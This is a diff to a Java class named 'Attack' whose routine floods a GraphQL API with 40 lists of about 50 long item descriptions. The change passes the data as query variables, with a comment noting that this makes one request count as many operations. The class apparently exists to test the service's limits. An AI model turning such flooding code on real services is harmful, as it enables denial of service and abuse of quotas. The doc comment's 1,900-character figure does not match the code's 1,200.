@@ -264,18 +264,21 @@ public class Attack {
 
   /** 40 lists with 50 items of 1,900 characters: 4 MB, which is the most that is answered. */
   private static void fill(String token) throws IOException {
-    var descriptions = ("\"" + "d".repeat(1_200) + "\",").repeat(50);
+    var descriptions = ("\"" + "d".repeat(1_200) + "\",").repeat(49) + "\"d\"";
     try (var connection = new Connection()) {
       for (var i = 0; i < 40; i++) {
         connection.exchange(post("mutation { createList(title: \"" + i + "\") { id } }", token));
         var id = connection.text.split("\"id\":\"")[1].split("\"")[0];
+        // By variables: a long document that is new counts as many operations
         connection.exchange(
-            post(
-                "mutation { createItems(listId: \""
+            body(
+                "{\"query\":\"mutation($to: ID!, $texts: [String!]!)"
+                    + " { createItems(listId: $to, descriptions: $texts) { id } }\","
+                    + "\"variables\":{\"to\":\""
                     + id
-                    + "\", descriptions: ["
+                    + "\",\"texts\":["
                     + descriptions
-                    + "]) { id } }",
+                    + "]}}",
                 token));
         pause(50);
       }
